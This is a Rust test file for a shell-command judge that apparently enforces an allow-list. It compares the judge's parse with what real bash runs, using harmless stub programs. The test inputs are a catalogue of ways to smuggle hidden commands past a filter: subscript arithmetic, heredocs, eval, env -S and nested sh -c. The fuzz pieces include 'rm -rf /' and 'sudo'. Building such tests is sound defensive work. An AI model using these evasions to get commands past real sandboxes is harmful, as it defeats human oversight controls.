    assert!(reason(&g, &nested).unwrap().contains("nested more than"));
    let quoted = (0..12).fold("ls".to_string(), |acc, _| {
        format!("sh -c {}", shell_quote(&acc))
    });
    assert!(reason(&g, &quoted).is_some());
    let long = format!("ls {}", "a".repeat(70_000));
    assert!(reason(&g, &long).unwrap().contains("longer than"));
}

/// brush-parser 0.4.0 unwraps in its tokenizer on this line (found by fuzzing): the judge's
/// thread turns the panic into a refusal, and the gateway goes on.
#[test]
fn a_panic_in_the_parser_is_a_refusal() {
    let line = "a <<X $($(i)\nX\n";
    let r = reason(&ls_cat_grep(), line).unwrap();
    assert!(r.contains("could not analyse"), "{r}");
    assert!(reason(&builtin(), line).is_some());
    assert_eq!(ls_cat_grep().check("ls"), Verdict::Allow);
}

fn shell_quote(s: &str) -> String {
    format!("'{}'", s.replace('\'', "'\\''"))
}

mod properties {
    use super::*;
    use proptest::prelude::*;

    const PIECES: &[&str] = &[
        "ls", "rm", "-rf", "/", "id", "sh", "-c", "'", "\"", "$", "(", ")", "`", "|", ";", "&",
        "&&", "||", "<", ">", "<<", "<<<", "EOF", "\n", "{", "}", "[", "]", "*", "?", "~", "\\",
        " ", "env", "-u", "sudo", "eval", "$(", "${", "x", "=", "#", "!", "if", "then", "fi",
        "for", "do", "done", "case", "in", "esac", "$'", "\\x", "0", "$((", "))", "<(", ">(", "-S",
        "xargs", "find", "-exec", "{}", "\\;", "+", "--", "--r",
    ];

    fn line() -> impl Strategy<Value = String> {
        proptest::collection::vec(proptest::sample::select(PIECES), 0..40).prop_map(|v| v.concat())
    }

    proptest! {
        #![proptest_config(ProptestConfig { cases: 400, ..ProptestConfig::default() })]

        /// Arbitrary text never panics and is judged the same way twice.
        #[test]
        fn any_text_is_judged_and_deterministic(line in line()) {
            let g = ls_cat_grep();
            let a = g.check(&line);
            prop_assert_eq!(a, g.check(&line));
            let _ = builtin().check(&line);
            let _ = is_scp_transfer(&line);
        }

        /// Wherever a command may follow a line, the judge sees it: if appending `ls` adds an
        /// `ls` to what runs, appending `id` adds an `id`, and an allow-list refuses it.
        #[test]
        fn a_command_after_any_line_is_seen(line in line()) {
            let count = |text: &str, name: &str| {
                analysis::analyze(text)
                    .invocations
                    .iter()
                    .filter(|i| i.name() == name)
                    .count()
            };
            for sep in ["; ", "\n", " && ", " | ", " & "] {
                let with_ls = format!("{line}{sep}ls");
                if count(&with_ls, "ls") > count(&line, "ls") {
                    let with_id = format!("{line}{sep}id");
                    prop_assert!(count(&with_id, "id") > count(&line, "id"), "{:?}", with_id);
                    prop_assert!(matches!(ls_cat_grep().check(&with_id), Verdict::Block { .. }), "{:?}", with_id);
                }
            }
        }

        /// An allowed line stays allowed inside `sh -c '...'` and `eval '...'`.
        #[test]
        fn code_strings_are_judged_like_the_line(line in line()) {
            let g = ls_cat_grep();
            if g.check(&line) == Verdict::Allow && !line.trim().is_empty() && !line.contains('\'') {
                prop_assert_eq!(g.check(&format!("sh -c '{line}'")), Verdict::Allow);
            }
            if matches!(g.check(&line), Verdict::Block { .. }) && !line.contains('\'') && !line.trim().is_empty() {
                prop_assert!(matches!(g.check(&format!("sh -c '{line}'")), Verdict::Block { .. }), "sh -c '{}'", line);
            }
        }
    }
}

/// The judge against real bash: generated lines put stub programs (`pa`, `pb`, `pc`, which
/// only log their name) behind wrappers, quoting, braces, redirections and compound
/// commands; bash runs each line, and every stub it ran must be among the programs the judge
/// found, unless the judge refuses the line as unresolved. A parser that disagreed with bash
/// about what runs would show here.
mod against_bash {
    use std::collections::BTreeSet;
    use std::process::{Command, Stdio};

    use proptest::prelude::*;

    use super::super::analysis::analyze;
    use super::super::programs::Program;

    const STUBS: &[&str] = &["pa", "pb", "pc"];

    fn stub_dir() -> tempfile::TempDir {
        let dir = tempfile::tempdir().unwrap();
        let log = dir.path().join("log");
        for s in STUBS {
            let p = dir.path().join(s);
            std::fs::write(&p, format!("#!/bin/sh\necho {s} >> '{}'\n", log.display())).unwrap();
            use std::os::unix::fs::PermissionsExt;
            std::fs::set_permissions(&p, std::fs::Permissions::from_mode(0o755)).unwrap();
        }
        dir
    }

    /// What bash ran of the stubs (in stubs of its own: a background job of an earlier line
    /// may still write to its log).
    fn bash_ran(line: &str) -> BTreeSet<String> {
        let stubs = stub_dir();
        let dir = stubs.path();
        let log = dir.join("log");
        let path = format!("{}:/usr/bin:/bin:/usr/sbin:/sbin", dir.display());
        // A scratch directory of its own, so `>pa` cannot overwrite a stub.
        let work = dir.join("work");
        std::fs::create_dir_all(&work).unwrap();
        let _ = Command::new("timeout")
            .args(["5", "bash", "--norc", "--noprofile", "-c", line])
            .env("PATH", path)
            .current_dir(&work)
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .status()
            .unwrap();
        std::fs::read_to_string(&log)
            .unwrap_or_default()
            .lines()
            .map(str::to_string)
            .collect()
    }

    fn judged(line: &str) -> Result<BTreeSet<String>, String> {
        let a = analyze(line);
        if let Some(u) = a.unresolved.first() {
            return Err(u.clone());
        }
        Ok(a.invocations
            .iter()
            .filter_map(|i| match &i.program {
                Program::Named { base, .. } => Some(base.clone()),
                _ => None,
            })
            .collect())
    }

    fn check(line: &str) -> Result<(), String> {
        let ran = bash_ran(line);
        match judged(line) {
            Err(_) => Ok(()),
            Ok(found) => {
                let missed: Vec<&String> = ran.iter().filter(|r| !found.contains(*r)).collect();
                if missed.is_empty() {
                    Ok(())
                } else {
                    Err(format!(
                        "{line:?}: bash ran {missed:?}, the judge found {found:?}"
                    ))
                }
            }
        }
    }

    /// Hand-picked lines, each a way a parser could disagree with bash.
    #[test]
    fn what_bash_runs_the_judge_finds() {
        let lines = [
            "env -u pa pb",
            "env -i pa",
            "env -S 'pa x' y",
            "env -S'pb'",
            "env FOO=1 -- pa",
            ">pa pb",
            "<pa pb; :",
            "2>pa pb",
            "timeout -s KILL 60 pa",
            "timeout -k 1 5 pb",
            "nice -n 5 pa",
            "nice -5 pb",
            "nohup pa",
            "stdbuf -o0 -eL pa",
            "setsid -w pa",
            "ionice -c 3 pa",
            "taskset 0x1 pa",
            "time -p pa",
            "command pa",
            "exec -a x pa",
            "flock /tmp/hoop-judge-lock pa",
            "flock /tmp/hoop-judge-lock -c 'pb'",
            "xargs pa",
            "echo x | xargs -I{} pb {}",
            "find . -maxdepth 0 -exec pa {} \\;",
            "find . -maxdepth 0 -exec pb {} +",
            "sh -c 'pa; pb'",
            "bash -c \"pa | pb\"",
            "eval pa",
            "eval 'pa; pb'",
            "bash <<< pa",
            "bash <<'X'\npb\nX\n",
            "bash -s <<X\npc\nX\n",
            "echo $(pa) `pb` \"$(pc)\"",
            "echo ${x:-$(pa)}",
            "echo $(( $(pa) + 1 ))",
            "cat <(pa) >(pb)",
            "pa | pb || pc && pa; pb & pc",
            "{ pa; }",
            "(pb)",
            "if pa; then pb; else pc; fi",
            "for x in 1; do pa; done",
            "while ! pa; do pb; break; done",
            "case x in x) pc;; esac",
            "f() { pa; }; f",
            "function g { pb; }; g",
            "'p'a",
            "\"p\"b",
            "p\\c",
            "$'\\x70a'",
            "{pa,x}",
            "{pb,}",
            "p{a,b}",
            "pa # ; pb",
            "pa\\\n;pb",
            "X=1 pa",
            "X=$(pb) pa",
            "[[ $(pa) ]]",
            "(( $(pb) ))",
            "coproc pa",
            "trap pa EXIT",
            "shopt -s expand_aliases\nalias pa=pb\npa",
            "! pa",
            "pa <<X\n$(pb)\nX\n",
            "cat <<'X'\n$(pb)\nX\n",
            "cat <<EOF\nEOF \npa\nEOF\npb\n",
            "cat <<EOF\n EOF\npa\nEOF\npb\n",
            "cat <<-EOF\n\tpa\n\tEOF\npb\n",
            "cat <<'E'OF\npa\nEOF\npb\n",
            "cat << EOF; pa\nbody\nEOF\npb\n",
            "cat <<A <<B\n1\nA\n2\nB\npa\n",
            "echo $(cat <<X\npa\nX\n)",
            "cat <<X | pa\nbody\nX\npb\n",
            "pa <<X\nno end",
            "pa #x; pb",
            "pa#x; pb",
            "echo a#; pb",
            "echo `echo \\`pa\\``",
            "echo \"`pb`\"",
            "p\\\na",
            "pa \\\n; pb",
            "case x in (x) pc;; esac",
            "((pa); pb)",
            "( (pa) )",
            "((pa) || pb)",
            "echo $[ $(pa) ]",
            "pa\r; pb",
            "x=(a $(pb)); pa",
            "declare -a y=($(pc))",
            "exec 3>/dev/null pa",
            "{ pa; } 2>/dev/null | { pb; }",
        ];
        let failures: Vec<String> = lines.iter().filter_map(|l| check(l).err()).collect();
        assert!(failures.is_empty(), "{}", failures.join("\n"));
        // The comparison is not vacuous: bash really ran the stubs.
        let ran = lines.iter().filter(|l| !bash_ran(l).is_empty()).count();
        let silent: Vec<&&str> = lines.iter().filter(|l| bash_ran(l).is_empty()).collect();
        assert!(
            ran > lines.len() * 3 / 4,
            "bash ran stubs for only {ran} of {} lines: {silent:?}",
            lines.len()
        );
    }

    /// Names bash evaluates as arithmetic: each line makes bash run a stub through a
    /// subscript, a compound value or an integer variable.
    #[test]
    fn names_bash_evaluates_run_what_the_judge_finds() {
        let lines = [
            "printf -v 'a[$(pa)]' x",
            "printf -va'[$(pa)]' x",
            "builtin printf -v 'a[$(pa)]' x",
            "test -v 'a[$(pb)]'",
            "[ -v 'a[$(pb)]' ]",
            "read 'a[$(pc)]' <<< x",
            "read -r 'a[`pc`]' <<< x",
            "declare -a a=(1); unset 'a[$(pa)]'",
            "declare -a a=(1); unset -v 'a[$(pa)]'",
            "declare -A b=([k]=1); unset 'b[$(pa)]'",
            "declare 'a[$(pb)]=1'",
            "typeset 'a[$(pb)]=1'",
            "f() { local 'a[$(pb)]=1'; }; f",
            "declare -a x='($(pc))'",
            "declare -a x='([$(pc)]=1)'",
            "declare -a x='([1]=`pc`)'",
            "typeset -a x='($(pc))'",
            "readonly -a x='($(pc))'",
            "export -a x='($(pc))'",
            "declare -a x; declare x='($(pc))'",
            "declare -i x='a[$(pa)]'",
            "x=(['a[$(pb)]']=1)",
            "[[ 'a[$(pa)]' -eq 1 ]]",
            "[[ -v 'a[$(pa)]' ]]",
            "let 'a[$(pa)]'",
            "(( 'a[$(pb)]' ))",
            "echo $(( 'a[$(pc)]' ))",
            "let \"x='a[$(pa)]'\"",
            "declare -a a=(1); echo ${a['$(pb)']}",
        ];
        let failures: Vec<String> = lines.iter().filter_map(|l| check(l).err()).collect();
        assert!(failures.is_empty(), "{}", failures.join("\n"));
        let silent: Vec<&&str> = lines.iter().filter(|l| bash_ran(l).is_empty()).collect();
        assert!(silent.is_empty(), "bash ran no stub for {silent:?}");
    }

    /// Every file under `dir` with its contents.
    fn snapshot(dir: &std::path::Path) -> BTreeSet<(String, Vec<u8>)> {
        std::fs::read_dir(dir)
            .unwrap()
            .map(|e| {
                let e = e.unwrap();
                let name = e.file_name().to_string_lossy().into_owned();
                (name, std::fs::read(e.path()).unwrap_or_default())
            })
            .collect()
    }

    /// Redirections bash runs: every line the allow-list passes leaves the files of its
    /// directory as they were, and the ones it refuses would have written there. A line that
    /// wrote a file past the judge (`/dev/stdout` reopening a descriptor read from a file)
    /// would show here.
    #[test]
    fn redirections_the_allow_list_passes_write_no_file() {
        let g = super::printers();
        let lines = [
            "ls > /dev/null",
            "ls >/dev/null 2>&1",
            "ls 2>&1",
            "ls &>/dev/null",
            "ls >&2",
            "ls 3>&-",
            "ls 3>&1-",
            "cat < f",
            "cat 3< f",
            "grep x <<< y",
            "{ cat f; } 2>/dev/null",
            "echo x >&2 2>/dev/null",
            "echo x >> f",
            "echo x > g",
            "echo x 2> g >&2",
            "echo x >& g",
            "echo x &>> f",
            "echo x <> g",
            "exec 3>g",
            "{ echo x >/dev/stdout; } 1<f",
            "echo x 3<f >>/dev/fd/3",
            "(echo x) > g",
            "sh -c 'echo x >> f'",
        ];
        let mut failures = Vec::new();
        let (mut passed, mut refused) = (0, 0);
        for line in lines {
            let dir = tempfile::tempdir().unwrap();
            std::fs::write(dir.path().join("f"), "precious\n").unwrap();
            let before = snapshot(dir.path());
            let _ = Command::new("timeout")
                .args(["5", "bash", "--norc", "--noprofile", "-c", line])
                .current_dir(dir.path())
                .stdin(Stdio::null())
                .stdout(Stdio::null())
                .stderr(Stdio::null())
                .status()
                .unwrap();
            let wrote = snapshot(dir.path()) != before;
            let allowed = g.check(line) == crate::policy::Verdict::Allow;
            if allowed {
                passed += 1;
            } else {
                refused += 1;
            }
            if allowed && wrote {
                failures.push(format!("{line:?} passed the judge and bash wrote a file"));
            }
            if !allowed && !wrote {
                failures.push(format!("{line:?} was refused but bash wrote nothing"));
            }
        }
        assert!(failures.is_empty(), "{}", failures.join("\n"));
        assert!(
            passed >= 10 && refused >= 10,
            "{passed} passed, {refused} refused"
        );
    }

    const WRAPPERS: &[&str] = &[
        "",
        "env ",
        "env -u pa ",
        "env -i ",
        "env FOO=1 ",
        "env -S 'pc' ",
        "timeout 5 ",
        "timeout -s KILL 60 ",
        "nice -n 5 ",
        "nohup ",
        "stdbuf -o0 ",
        "setsid -w ",
        "command ",
        "exec -a x ",
        "xargs ",
        "X=1 ",
        ">/dev/null ",
        "</dev/null ",
        "2>&1 ",
        "eval ",
        "time -p ",
        "flock /tmp/hoop-judge-lock ",
        "ionice -c 3 ",
        "taskset 0x1 ",
    ];
    const NAMES: &[&str] = &[
        "pa",
        "pb",
        "pc",
        "'pa'",
        "\"pb\"",
        "p\\c",
        "$'\\x70a'",
        "{pb,x}",
        "p{a,b}",
        "${X:-pa}",
        "$(echo pb)",
        "pa$Y",
    ];
    const GLUE: &[&str] = &[";", " && ", " || ", " | ", "\n", " & "];
    const SHAPES: &[&str] = &[
        "{}",
        "( {} )",
        "{{ {}; }}",
        "echo $({})",
        "echo `{}`",
        "cat <({})",
        "sh -c '{}'",
        "if true; then {}; fi",
        "f() {{ {}; }}; f",
    ];

    fn command() -> impl Strategy<Value = String> {
        (
            proptest::collection::vec(proptest::sample::select(WRAPPERS), 0..3),
            proptest::sample::select(NAMES),
            proptest::sample::select(&["", " x", " -u pa", " >/dev/null", " pb"][..]),
        )
            .prop_map(|(w, n, a)| format!("{}{n}{a}", w.concat()))
    }

    fn line() -> impl Strategy<Value = String> {
        (
            proptest::collection::vec((command(), proptest::sample::select(GLUE)), 1..4),
            proptest::sample::select(SHAPES),
        )
            .prop_map(|(cmds, shape)| {
                let mut inner = String::new();
                for (i, (c, g)) in cmds.iter().enumerate() {
                    if i > 0 {
                        inner.push_str(g);
                    }
                    inner.push_str(c);
                }
                if shape.contains('\'') && inner.contains('\'') {
                    return inner;
                }
                shape
                    .replace("{}", &inner)
                    .replace("{{", "{")
                    .replace("}}", "}")
            })
    }

    proptest! {
        #![proptest_config(ProptestConfig { cases: 150, ..ProptestConfig::default() })]

        #[test]
        fn generated_lines_agree_with_bash(line in line()) {
            if let Err(e) = check(&line) {
                prop_assert!(false, "{}", e);
            }
        }
    }
}
